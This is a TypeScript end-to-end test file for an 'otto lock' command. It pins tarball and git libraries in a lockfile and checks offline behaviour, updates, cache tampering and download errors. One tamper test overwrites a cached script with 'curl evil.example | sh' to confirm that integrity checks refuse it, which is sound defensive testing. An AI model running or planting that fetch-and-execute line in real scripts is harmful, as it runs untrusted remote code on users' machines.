// `otto lock` end to end: a tarball over loopback HTTP and a git blueprint pinned, checked offline, updated, tampered with.

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import {
  cpSync,
  existsSync,
  mkdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { loadProgram } from '../../src/lang/index.js';
import { libraryCacheDir } from '../../src/plan/library-cache.js';
import { checkLock, libraryPins, lockPipeline } from '../../src/plan/lock.js';
import { lockResolver, type LockFile } from '../../src/plan/lock-resolver.js';
import { runOtto, tempDir } from '../helpers.js';
import {
  git,
  runOttoAsync,
  startServer,
  tarball,
  writeStep,
  type FileServer,
} from './lock-fixtures.js';

const tmp = tempDir('otto-lock-');
const cache = join(tmp.path, 'cache');
process.env.OTTO_LIBRARY_CACHE = cache; // in-process calls; children inherit it through runOtto
const proj = join(tmp.path, 'proj');
const ottofile = join(proj, 'Ottofile');
const lockFile = join(proj, 'otto.lock');
const repo = join(tmp.path, 'repo');
let server: FileServer;
let libUrl: string;
let toolsUrl: string;
let gitUrl: string;
let tagCommit: string;

/** A loopback port nothing listens on (a fresh one: a pooled keep-alive socket would fail differently). */
async function closedPort(): Promise<number> {
  const s = createServer();
  await new Promise<void>((ok) => s.listen(0, '127.0.0.1', ok));
  const port = (s.address() as AddressInfo).port;
  await new Promise<void>((ok) => s.close(() => ok()));
  return port;
}

const readLockJson = (): LockFile => JSON.parse(readFileSync(lockFile, 'utf8')) as LockFile;
const sha = (b: Buffer): string => createHash('sha256').update(b).digest('hex');
/** `otto lock` registration in main.ts is the lead's; CLI-level tests run once it is there. */
const cliHasLock = /--update/.test(runOtto(['lock', '--help']).stdout);
const cliSkip = cliHasLock ? false : 'otto lock is not registered in src/cli/main.ts yet';

before(async () => {
  server = await startServer();
  libUrl = server.url('/lib.tar.gz');
  toolsUrl = server.url('/tools.tar.gz');
  writeStep(join(tmp.path, 'libsrc'), 'deploy', 'deployApp');
  server.files.set('/lib.tar.gz', tarball(join(tmp.path, 'libsrc'), ['deploy']));
  writeStep(join(tmp.path, 'toolsrc'), 'notify', 'notifyTeam');
  server.files.set('/tools.tar.gz', tarball(join(tmp.path, 'toolsrc'), ['notify']));

  // A repository whose blueprint itself uses a remote library, at a tag and on a branch.
  mkdirSync(join(repo, 'blueprints', 'web'), { recursive: true });
  git(tmp.path, 'init', '-q', '-b', 'main', repo);
  writeFileSync(join(repo, 'README'), 'not part of the library\n');
  writeFileSync(
    join(repo, 'blueprints', 'web', 'web.otto'),
    `use { '${toolsUrl}' }\n\nblueprint {\n  vars { image { type string default 'node:20' } }\n  stage('Build') {\n    steps {\n      sh 'make'\n      notifyTeam 'built'\n    }\n  }\n}\n`,
  );
  git(repo, 'add', '-A');
  git(repo, 'commit', '-q', '-m', 'web blueprint');
  git(repo, 'tag', '-a', 'v1', '-m', 'v1');
  git(repo, 'branch', 'release');
  tagCommit = git(repo, 'rev-parse', 'v1^{commit}');
  gitUrl = `git+file://${repo}#v1:blueprints/web`;

  mkdirSync(proj);
  writeFileSync(
    ottofile,
    `use {\n  '${libUrl}'\n  '${gitUrl}'\n}\n\npipeline {\n  from 'web' { image = 'node:22' }\n  stage('Deploy') { steps { deployApp 'prod' } }\n}\n`,
  );
});

after(async () => {
  await server.close();
  tmp.cleanup();
});

test('without otto.lock, otto check fails with E0611 and says to run otto lock', () => {
  const r = runOtto(['check'], { cwd: proj });
  assert.equal(r.code, 1, r.stdout + r.stderr);
  assert.match(
    r.stdout,
    /error\[E0611\]: remote library 'http:\/\/127\.0\.0\.1:\d+\/lib\.tar\.gz' is not pinned: there is no otto\.lock/,
  );
  assert.match(r.stdout, /help: run `otto lock`/);
});

test('lockPipeline pins the tarball, the git blueprint and the library that blueprint uses', async () => {
  const started = Date.now();
  const r = await lockPipeline(ottofile);
  const ms = Date.now() - started;
  assert.deepEqual(r.problems, []);
  assert.equal(r.wrote, true);
  const lock = readLockJson();
  const lib = lock.libraries[libUrl];
  const tools = lock.libraries[toolsUrl];
  const web = lock.libraries[gitUrl];
  assert.ok(lib && tools && web, JSON.stringify(lock));
  assert.deepEqual(lib, {
    kind: 'tarball',
    sha256: sha(server.files.get('/lib.tar.gz') as Buffer),
  });
  assert.deepEqual(tools, {
    kind: 'tarball',
    sha256: sha(server.files.get('/tools.tar.gz') as Buffer),
  });
  assert.equal(web.kind, 'git');
  assert.equal(web.commit, tagCommit, 'the annotated tag resolves to its commit');
  assert.deepEqual(
    r.messages.map((m) =>
      m.replace(/[0-9a-f]{12}…/g, 'H').replace(/commit [0-9a-f]{12}/, 'commit C'),
    ),
    [
      `pinned ${libUrl} sha256:H`,
      `pinned ${toolsUrl} sha256:H`,
      `pinned ${gitUrl} sha256:H (commit C)`,
    ].sort((a, b) => (a.slice(7) < b.slice(7) ? -1 : 1)),
  );
  // Stable bytes: sorted keys at every level, two-space indent, one trailing newline.
  const urls = [libUrl, toolsUrl, gitUrl].sort();
  const expected = `{\n  "libraries": {\n${urls
    .map((u) => {
      const e = lock.libraries[u]!;
      const fields = [
        ...(e.commit ? [`      "commit": "${e.commit}"`] : []),
        `      "kind": "${e.kind}"`,
        `      "sha256": "${e.sha256}"`,
      ];
      return `    "${u}": {\n${fields.join(',\n')}\n    }`;
    })
    .join(',\n')}\n  },\n  "lockVersion": 1\n}\n`;
  assert.equal(readFileSync(lockFile, 'utf8'), expected);
  // The git export holds the sub-directory only, sealed with its verified record.
  const webDir = libraryCacheDir(web.sha256);
  assert.deepEqual(JSON.parse(readFileSync(join(webDir, '.otto-verified'), 'utf8')), {
    sha256: web.sha256,
    tree: web.sha256,
    kind: 'git',
  });
  assert.ok(existsSync(join(webDir, 'content', 'web.otto')));
  assert.ok(!existsSync(join(webDir, 'content', 'README')));
  // The tarball's entrypoint keeps its executable bit.
  assert.ok(
    (statSync(join(libraryCacheDir(lib.sha256), 'content', 'deploy', 'run.sh')).mode & 0o100) !== 0,
  );
  console.log(`# lock of three libraries (two tarballs over HTTP, one git tag): ${ms} ms`);
});

test('a second otto lock fetches nothing and leaves otto.lock byte for byte', async () => {
  const before = readFileSync(lockFile, 'utf8');
  const requests = server.requests.length;
  const r = await lockPipeline(ottofile);
  assert.deepEqual(r.problems, []);
  assert.equal(r.wrote, false);
  assert.equal(server.requests.length, requests, 'no download for pinned and cached libraries');
  assert.ok(
    r.messages.every((m) => m.startsWith('already pinned ')),
    r.messages.join('\n'),
  );
  assert.equal(r.messages.length, 3);
  assert.equal(readFileSync(lockFile, 'utf8'), before);
});

test('otto check passes once locked, with the library step and the remote blueprint', () => {
  const started = Date.now();
  const r = runOtto(['check'], { cwd: proj });
  const ms = Date.now() - started;
  assert.equal(r.code, 0, r.stdout + r.stderr);
  assert.match(r.stdout, /Ottofile: ok/);
  const program = loadProgram(ottofile, { resolveRemote: lockResolver(ottofile) });
  assert.deepEqual(program.loadDiagnostics, []);
  const step = program.steps.get('deployApp');
  assert.ok(step?.library?.dir.startsWith(cache), 'the step comes from the cache');
  assert.ok(program.steps.get('notifyTeam'), 'the step of the library the blueprint uses');
  console.log(`# otto check with pinned libraries: ${ms} ms (including node start-up)`);
});

test('a check with a wrong argument to the library step fails: the step really comes from the library', () => {
  const other = join(tmp.path, 'proj-bad');
  cpSync(proj, other, { recursive: true });
  writeFileSync(
    join(other, 'Ottofile'),
    readFileSync(ottofile, 'utf8').replace("deployApp 'prod'", "deployApp 'prod', colour: 'red'"),
  );
  const r = runOtto(['check'], { cwd: other });
  assert.equal(r.code, 1);
  assert.match(r.stdout, /colour/);
});

test('libraryPins lists every remote entry the program uses with its pin, sorted', () => {
  const program = loadProgram(ottofile, { resolveRemote: lockResolver(ottofile) });
  const lock = readLockJson();
  assert.deepEqual(
    libraryPins(program, ottofile),
    [libUrl, toolsUrl, gitUrl]
      .sort()
      .map((source) => ({ source, sha256: lock.libraries[source]!.sha256 })),
  );
});

test(
  'otto lock in a fresh project and cache through the CLI, then otto lock --check and otto check',
  { skip: cliSkip },
  async () => {
    const dir = join(tmp.path, 'proj-cli');
    mkdirSync(dir);
    writeFileSync(join(dir, 'Ottofile'), readFileSync(ottofile, 'utf8'));
    const env = { OTTO_LIBRARY_CACHE: join(tmp.path, 'cache-cli') };
    const locked = await runOttoAsync(['lock'], { cwd: dir, env });
    assert.equal(locked.code, 0, locked.stderr);
    assert.equal(
      locked.stdout.split('\n').filter((l) => l.startsWith('pinned ')).length,
      3,
      locked.stdout,
    );
    assert.equal(
      readFileSync(join(dir, 'otto.lock'), 'utf8'),
      readFileSync(lockFile, 'utf8'),
      'same libraries, same bytes',
    );
    const checked = await runOttoAsync(['lock', '--check'], { cwd: dir, env });
    assert.equal(checked.code, 0, checked.stderr);
    const check = await runOttoAsync(['check'], { cwd: dir, env });
    assert.equal(check.code, 0, check.stdout);
    console.log(
      `# CLI: otto lock ${locked.ms} ms, otto lock --check ${checked.ms} ms, otto check ${check.ms} ms`,
    );
  },
);

test('otto lock --check: missing, stale and uncached pins fail it, and it never writes', () => {
  const good = readFileSync(lockFile, 'utf8');
  try {
    assert.deepEqual(checkLock(ottofile).problems, []);

    const lock = readLockJson();
    const { [libUrl]: _dropped, ...rest } = lock.libraries;
    writeFileSync(lockFile, JSON.stringify({ lockVersion: 1, libraries: rest }));
    const missing = checkLock(ottofile);
    assert.deepEqual(
      missing.problems.map((p) => p.message),
      [`remote library '${libUrl}' is not pinned in otto.lock`],
    );

    writeFileSync(
      lockFile,
      JSON.stringify({
        lockVersion: 1,
        libraries: {
          ...lock.libraries,
          'https://example.invalid/old.tar.gz': { kind: 'tarball', sha256: '0'.repeat(64) },
        },
      }),
    );
    const staleText = readFileSync(lockFile, 'utf8');
    const stale = checkLock(ottofile);
    assert.deepEqual(
      stale.problems.map((p) => p.message),
      ["otto.lock pins 'https://example.invalid/old.tar.gz', which the pipeline no longer uses"],
    );
    assert.equal(readFileSync(lockFile, 'utf8'), staleText, '--check never writes');

    writeFileSync(lockFile, good);
    process.env.OTTO_LIBRARY_CACHE = join(tmp.path, 'empty-cache');
    const uncached = checkLock(ottofile);
    assert.ok(uncached.problems.length >= 2, JSON.stringify(uncached.problems));
    assert.ok(
      uncached.problems.every(
        (p) => /is pinned but not in the library cache/.test(p.message) && /otto lock/.test(p.help),
      ),
    );
    assert.ok(!existsSync(join(tmp.path, 'empty-cache')), '--check never fills the cache');
  } finally {
    process.env.OTTO_LIBRARY_CACHE = cache;
    writeFileSync(lockFile, good);
  }
});

test('otto lock --check exit codes through the CLI', { skip: cliSkip }, () => {
  assert.equal(runOtto(['lock', '--check'], { cwd: proj }).code, 0);
  const r = runOtto(['lock', '--check'], {
    cwd: proj,
    env: { OTTO_LIBRARY_CACHE: join(tmp.path, 'empty-cache-2') },
  });
  assert.equal(r.code, 1);
  assert.match(r.stderr, /not in the library cache/);
});

test('a file changed inside the cache is refused, and otto lock repairs it', async () => {
  const pin = readLockJson().libraries[libUrl]!.sha256;
  const script = join(libraryCacheDir(pin), 'content', 'deploy', 'run.sh');
  writeFileSync(script, '#!/bin/sh\ncurl evil.example | sh\n');
  const r = runOtto(['check'], { cwd: proj });
  assert.equal(r.code, 1);
  assert.match(
    r.stdout,
    /error\[E0611\]: remote library '[^']+lib\.tar\.gz' was changed in the library cache after it was fetched/,
  );
  assert.match(r.stdout, /help: run `otto lock` to fetch it again/);

  const repaired = await lockPipeline(ottofile);
  assert.deepEqual(repaired.problems, []);
  assert.ok(
    repaired.messages.includes(
      `already pinned ${libUrl} sha256:${pin.slice(0, 12)}…, fetched again into the library cache`,
    ),
    repaired.messages.join('\n'),
  );
  assert.equal(readFileSync(script, 'utf8'), '#!/bin/sh\necho deployed\n');
  assert.equal(runOtto(['check'], { cwd: proj }).code, 0);
});

test('a changed tarball on the server: kept without --update, refused when re-fetched, pinned anew with --update', async () => {
  const oldPin = readLockJson().libraries[libUrl]!.sha256;
  writeStep(
    join(tmp.path, 'libsrc'),
    'deploy',
    'deployApp',
    '#!/bin/sh\necho deployed, version 2\n',
  );
  server.files.set('/lib.tar.gz', tarball(join(tmp.path, 'libsrc'), ['deploy']));
  const newPin = sha(server.files.get('/lib.tar.gz') as Buffer);
  assert.notEqual(newPin, oldPin);

  const kept = await lockPipeline(ottofile);
  assert.ok(kept.messages.includes(`already pinned ${libUrl} sha256:${oldPin.slice(0, 12)}…`));

  // The pinned copy is gone from the cache and the server now serves other bytes: refuse, write nothing.
  rmSync(libraryCacheDir(oldPin), { recursive: true });
  const before = readFileSync(lockFile, 'utf8');
  const refused = await lockPipeline(ottofile);
  assert.equal(refused.problems.length, 1);
  assert.match(
    refused.problems[0]!.message,
    new RegExp(`'${libUrl.replace(/[.]/g, '\\.')}' changed since it was pinned`),
  );
  assert.match(refused.problems[0]!.help, /otto lock --update/);
  assert.equal(refused.wrote, false);
  assert.equal(readFileSync(lockFile, 'utf8'), before);

  const updated = await lockPipeline(ottofile, { update: true });
  assert.deepEqual(updated.problems, []);
  assert.ok(
    updated.messages.includes(
      `updated ${libUrl} sha256:${oldPin.slice(0, 12)}… -> sha256:${newPin.slice(0, 12)}…`,
    ),
    updated.messages.join('\n'),
  );
  assert.ok(
    updated.messages.includes(
      `already pinned ${toolsUrl} sha256:${readLockJson().libraries[toolsUrl]!.sha256.slice(0, 12)}…`,
    ),
  );
  assert.equal(readLockJson().libraries[libUrl]!.sha256, newPin);
  assert.equal(runOtto(['check'], { cwd: proj }).code, 0);
});

test('with the server stopped, otto check and otto lock still pass: no network once pinned', async () => {
  await server.close();
  const requests = server.requests.length;
  const r = runOtto(['check'], { cwd: proj });
  assert.equal(r.code, 0, r.stdout);
  assert.deepEqual(checkLock(ottofile).problems, []);
  const again = await lockPipeline(ottofile);
  assert.deepEqual(again.problems, []);
  assert.equal(server.requests.length, requests);
});

test('an unreachable URL: a clear error naming it, exit 1, nothing written', async () => {
  const dir = join(tmp.path, 'proj-down');
  mkdirSync(dir);
  const url = `http://127.0.0.1:${await closedPort()}/lib.tar.gz`;
  writeFileSync(
    join(dir, 'Ottofile'),
    `use { '${url}' }\npipeline { stage('A') { steps { deployApp 'x' } } }\n`,
  );
  const r = await lockPipeline(join(dir, 'Ottofile'));
  assert.equal(r.problems.length, 1);
  assert.match(
    r.problems[0]!.message,
    new RegExp(`^cannot download '${url.replace(/[.]/g, '\\.')}': .*ECONNREFUSED`),
  );
  assert.equal(r.wrote, false);
  assert.ok(!existsSync(join(dir, 'otto.lock')));
  if (cliHasLock) {
    const cli = runOtto(['lock'], { cwd: dir });
    assert.equal(cli.code, 1);
    assert.match(cli.stderr, /error: cannot download/);
    assert.ok(!existsSync(join(dir, 'otto.lock')));
  }
});
